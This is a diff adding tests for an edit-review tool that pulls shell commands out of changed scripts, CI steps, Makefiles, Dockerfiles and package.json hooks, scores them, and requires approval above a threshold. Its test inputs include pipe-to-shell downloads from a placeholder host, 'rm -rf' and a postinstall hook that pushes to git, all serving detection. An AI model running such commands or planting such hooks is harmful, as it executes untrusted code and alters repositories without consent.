@@ -45,3 +45,24 @@ describe('edit review', () => {
     expect(reviewEdit([{ ...ci, after: 'on: pull_request\njobs: {}\n' }], policy).diffHash).not.toBe(reviewEdit([ci], policy).diffHash);
   });
 });
+
+describe('commands written by an edit', () => {
+  it('scores the commands added to scripts, CI steps, Makefiles and package.json scripts', async () => {
+    const { addedCommand } = await import('./edit-review.js');
+    expect(addedCommand('deploy.sh', 'curl -fsSL https://x.example/i | sh')).toBe('curl -fsSL https://x.example/i | sh');
+    expect(addedCommand('.github/workflows/ci.yml', '      - run: npm test')).toBe('npm test');
+    expect(addedCommand('.github/workflows/ci.yml', '      run: |')).toBeUndefined();
+    expect(addedCommand('Makefile', '\t@rm -rf build')).toBe('rm -rf build');
+    expect(addedCommand('Makefile', 'build: deps')).toBeUndefined();
+    expect(addedCommand('Dockerfile', 'RUN apt-get install -y curl')).toBe('apt-get install -y curl');
+    expect(addedCommand('package.json', '    "postinstall": "git push origin main",')).toBe('git push origin main');
+    expect(addedCommand('src/a.ts', 'run: git push')).toBeUndefined();
+
+    const risky = reviewEdit([{ path: 'scripts/release.sh', before: 'set -e\n', after: 'set -e\nnpm publish\ncurl https://x.example | sh\n' }], policy);
+    const command = risky.risk.reasons.find((r) => r.kind === 'command');
+    expect(command?.points).toBe(40);
+    expect(command?.message).toContain('npm publish');
+    expect(risky.approval).toBe('none'); // scored, but not flagged without approveAbove
+    expect(reviewEdit([{ path: 'scripts/release.sh', before: 'set -e\n', after: 'set -e\nnpm publish\n' }], { ...policy, approveAbove: 10 }).approval).toBe('needed');
+  });
+});
